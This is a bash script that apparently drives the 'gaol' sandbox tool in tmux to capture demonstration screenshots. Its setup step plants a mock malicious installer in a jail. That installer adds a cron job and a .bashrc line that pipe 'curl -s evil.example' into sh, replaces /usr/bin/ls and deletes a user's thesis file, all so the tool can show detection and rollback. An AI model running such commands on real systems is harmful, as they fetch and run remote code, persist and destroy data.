#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-or-later
# Drives the real program in tmux through the demonstration, in a real jail, and writes each screen
# as text and as a picture. Times, ids and ages are made the same in every run.
set -u -o pipefail
here=$(cd "${BASH_SOURCE[0]%/*}" && pwd)
gaol=$here/../gaol
cols=100 rows=24
work=$(mktemp -d /tmp/gs.XXXXXX) || exit 1
export GAOL_HOME=$work/home GAOL_RUN=$work/run LC_ALL=C.UTF-8
tmux="tmux -L gaol-shots-$$ -f /dev/null"

sweep() {
	$tmux kill-server 2>/dev/null
	"$gaol" rm -f '*' >/dev/null 2>&1
	rm -rf "$work"
}
trap sweep EXIT

die() {
	echo "gaol: screenshots: $*" >&2
	$tmux capture-pane -p >&2
	exit 1
}

# until_shows PATTERN: waits until the screen shows it.
until_shows() {
	local end=$((SECONDS + 15))
	until $tmux capture-pane -p | grep -Eq -- "$1"; do
		[ $SECONDS -lt $end ] || die "the screen never shows $1"
		read -r -t 0.05 <> <(:) || true
	done
}

keys() { $tmux send-keys "$@"; }

stable() {
	sed -E 's/[0-9]{2}:[0-9]{2}:[0-9]{2}/12:34:56/g; s/\b[0-9a-f]{10}\b/71bed763ca/g'
}

# shot NAME TITLE: this screen as NAME.txt and NAME.svg.
shot() {
	$tmux capture-pane -p | stable | sed 's/[[:space:]]*$//' >"$here/$1.txt"
	$tmux capture-pane -e -N -p | stable | awk -v cols=$cols -v rows=$rows -v title="$2" -f "$here/svg.awk" >"$here/$1.svg"
	echo "  screenshots/$1.svg"
}

inside() { "$gaol" exec "$1" -- sh -c "$2" </dev/null >/dev/null 2>&1; }

# size COLS ROWS: of the terminal from here on.
size() {
	cols=$1 rows=$2
	$tmux resize-window -x "$cols" -y "$rows"
}

typed() { $tmux send-keys -l "$1"; }

prepare() {
	"$gaol" new web --note "build of the web site" >/dev/null && "$gaol" start web >/dev/null || die "no jail"
	"$gaol" new agent --note "an AI agent at work" --memory 512M >/dev/null
	"$gaol" new demo --note "an installer from somewhere" >/dev/null && "$gaol" start demo >/dev/null || die "no jail"
	inside demo 'mkdir -p /root/thesis /etc/cron.d; echo "alias ll=\"ls -l\"" > /root/.bashrc
		printf "Chapter 1\n\nThree years of work.\n" > /root/thesis/chapter1.txt
		cat > /root/install.sh <<\EOF
#!/bin/sh
echo "Installing updater 2.1 ..."
echo "* * * * * root curl -s evil.example | sh" > /etc/cron.d/updater
echo "curl -s evil.example/steal | sh &" >> /root/.bashrc
echo "echo nothing to see here" > /usr/bin/ls.new
chmod 755 /usr/bin/ls.new; mv /usr/bin/ls.new /usr/bin/ls
rm /root/thesis/chapter1.txt
echo "Done. Thank you!"
EOF'
	"$gaol" checkpoint demo -m "clean, before the installer" >/dev/null || die "no checkpoint"
}

scene() {
	prepare
	$tmux new-session -d -x $cols -y $rows "TERM=tmux-256color '$gaol'"
	until_shows 'agent.*stopped'
	# costs are measured a moment later, and differ each time
	shot jails gaol
	keys g
	keys j
	size 124 26
	keys a
	until_shows 'root@demo'
	until_shows 'checkpoint #2'
	typed 'sh install.sh'
	keys Enter
	until_shows 'unlink .*chapter1'
	until_shows 'Thank you'
	typed 'ls; cat .bashrc'
	keys Enter
	until_shows 'steal'
	shot console "gaol: type on the left, watch on the right"
	keys C-]
	keys d
	size 100 24
	keys f
	until_shows 'unlink .*chapter1'
	shot feed "gaol: what the jail does, live"
	keys d
	until_shows '/usr/bin/ls'
	keys j
	until_shows 'steal'
	shot diff "gaol: what it changed"
	keys t
	until_shows 'tree now'
	keys /
	typed 'etc/'
	keys Enter
	keys Enter
	until_shows 'tree now  /etc'
	keys /
	typed 'cron.d'
	keys Enter
	keys Enter
	until_shows '/etc/cron.d '
	keys /
	typed updater
	keys Enter
	until_shows 'root curl'
	shot tree "gaol: whose file is that?"
	keys :
	typed jails
	keys Enter
	until_shows 'gaol . jails'
	keys z
	until_shows 'undone'
	keys l
	until_shows 'before rollback'
	shot log "gaol: undone with one key"
	keys '?'
	until_shows 'Moving'
	shot help "gaol: help"
}

scene
